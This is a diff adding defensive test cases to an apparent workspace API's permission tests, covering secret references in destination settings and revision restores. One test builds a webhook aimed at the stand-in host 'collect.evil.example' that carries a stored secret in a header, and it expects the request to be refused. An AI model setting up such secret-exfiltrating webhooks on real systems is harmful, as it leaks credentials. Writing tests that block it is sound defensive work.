@@ -300,6 +300,17 @@ async def test_roles_of_secrets_and_references(bench: Bench) -> None:
     patch = {"settings": {"integrationKey": "${AWS_SECRET_ACCESS_KEY}"}}
     assert (await as_role("editor", "PATCH", "/destinations/pendo", patch)).status == 403
     assert (await as_role("editor", "PATCH", "/destinations/pendo", {"name": "P"})).status == 200
+    # A variable that one destination names is not free for another one, nor for another field.
+    await send(
+        bench, "PATCH", "/destinations/hook", {"settings": {"signingSecret": "${HOOK_SECRET}"}}, etag="*"
+    )
+    mine = {"url": "https://collect.evil.example", "headers": {"X-Found": "${HOOK_SECRET}"}}
+    new = {"name": "Mine", "type": "webhook", "settings": mine}
+    assert (await as_role("editor", "POST", "/destinations", new)).status == 403
+    moved = {"settings": {**mine, "signingSecret": None}}
+    assert (await as_role("editor", "PATCH", "/destinations/hook", moved)).status == 403
+    assert (await as_role("editor", "PATCH", "/destinations/hook", {"name": "H"})).status == 200
+    assert (await as_role("editor", "POST", "/destinations", {**new, "settings": "mine"})).status == 422
     assert (await as_role("viewer", "PATCH", "/destinations/pendo", {"name": "P"})).status == 403
 
 
@@ -342,6 +353,13 @@ async def test_kept_secrets_stay_at_their_address(bench: Bench) -> None:
     assert (
         await bench.ask("POST", "/verify", {"type": "webhook", "id": "hook", "settings": {"url": elsewhere}})
     ).status == 200
+    # What an owner moved, an editor does not move back; a revision with a secret that was given up is whole.
+    before = bench.holder.current.revision
+    await send(bench, "PATCH", "/destinations/hook", {"settings": {"url": elsewhere}}, etag="*")
+    assert (await as_editor("POST", f"/workspace/revisions/{before}/restore", {})).status == 403
+    assert (await as_editor("POST", f"/workspace/revisions/{before - 1}/restore?dryRun=1", {})).status == 403
+    await send(bench, "DELETE", "/destinations/hook", etag="*")
+    assert (await as_editor("POST", f"/workspace/revisions/{before}/restore", {})).status == 200
 
 
 async def test_who_sees_no_personal_data_sends_it_nowhere_else(bench: Bench) -> None:
@@ -366,6 +384,14 @@ async def test_who_sees_no_personal_data_sends_it_nowhere_else(bench: Bench) -> 
         await asked("PATCH", "/destinations/pendo", {"name": "P", "settings": {"pageEvents": "track"}}) == 200
     )
     assert await asked("PATCH", "/sources/web", {"name": "W"}) == 200
+    # Nor is a destination that was removed brought back by whoever had made it.
+    before = bench.holder.current.revision
+    assert await asked("DELETE", "/destinations/hook", None) == 200
+    assert await asked("POST", f"/workspace/revisions/{before}/restore", {}) == 403
+    assert await asked("POST", f"/workspace/revisions/{before}/restore?dryRun=1", {}) == 403
+    await send(bench, "POST", f"/workspace/revisions/{before}/restore", {})
+    assert await asked("PATCH", "/sources/web", {"name": "Shop"}) == 200
+    assert await asked("POST", f"/workspace/revisions/{before}/restore", {}) == 200
 
 
 # --- verify -----------------------------------------------------------------------------------------------------------
